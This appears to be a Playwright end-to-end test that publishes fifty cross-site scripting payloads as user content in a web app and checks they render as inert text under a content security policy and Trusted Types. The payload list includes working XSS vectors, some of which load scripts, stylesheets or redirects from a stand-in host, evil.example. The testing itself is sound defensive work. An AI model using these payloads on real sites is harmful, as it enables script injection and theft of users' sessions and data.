import { openBooks } from './books.ts';
import { expect, test, watchConsole } from './fixtures.ts';
import { joinAs } from './people.ts';

test.use({ world: 'hostile-text' });

declare global {
  interface Window {
    tellViolation(directive: string): Promise<void>;
  }
}

const act = 'document.title="hit"';
const inTags = [
  `<script>${act}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script>${act}//`,
  `"><script>${act}</script>`,
  `'><script>${act}</script>`,
  `</title><script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `<!--><script>${act}</script>-->`,
  `<![CDATA[<script>${act}</script>]]>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<script type=module>${act}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg/onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a>`,
  `<iframe srcdoc="<script>${act}</script>">`,
  `<iframe src="javascript:${act}">`,
  `<object data="javascript:${act}">`,
  `<embed src="javascript:${act}">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<form action=//evil.example><input type=submit autofocus>`,
];
const inAttributes = [
  'img src=x onerror',
  'body onload',
  'input autofocus onfocus',
  'details open ontoggle',
].map((tag) => `<${tag}=${act}>`);
const inMedia = ['video src=x onerror', 'audio src=x onerror', 'marquee onstart', 'x onclick'].map(
  (tag) => `<${tag}=${act}>x`,
);
const inText = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `data:text/html,<script>${act}</script>`,
  `" onmouseover=${act} x="`,
  `' autofocus onfocus=${act} '`,
  `\` onerror=${act}`,
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}`,
  `\\u003cscript\\u003e${act}`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `{{constructor.constructor('${act}')()}}`,
  `<%= ${act} %>`,
  `\u2028${act}//`,
  `\u202e<script>${act}</script>`,
];
const payloads = [...inTags, ...inAttributes, ...inMedia, ...inText];

test('fifty scripts in titles, comments, names and bios show as text and never run', async ({
  page,
  earshot,
}) => {
  expect(payloads).toHaveLength(50);
  const check = watchConsole(page);
  const email = 'eve@example.org';
  await joinAs(page, earshot, { email, displayName: '<img src=x onerror=alert(1)>', type: 'Artist' });
  const books = await openBooks(earshot);
  for (const payload of payloads) await books.publish(email, payload);
  await books.close();
  const violations: string[] = [];
  await page.exposeFunction('tellViolation', (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => {
      void window.tellViolation(violatedDirective);
    });
  });
  page.on('dialog', (dialog) => violations.push(dialog.message()));

  for (const path of ['/app/discover', '/app/analytics', '/app/profile', '/app/tracks']) {
    await page.goto(path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    if (path !== '/app/profile') await expect(page.getByText(act).first()).toBeVisible();
    expect(await page.title()).not.toBe('hit');
  }
  await expect(page.getByText(payloads.at(-1) ?? '').first()).toBeVisible();
  expect(violations).toEqual([]);
  check();

  const isRefused = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<b>x</b>';
      return false;
    } catch (error) {
      return error instanceof TypeError;
    }
  });
  expect(isRefused, 'the browser itself takes no markup from text').toBe(true);
  await expect.poll(() => violations).toEqual(['require-trusted-types-for']);
});
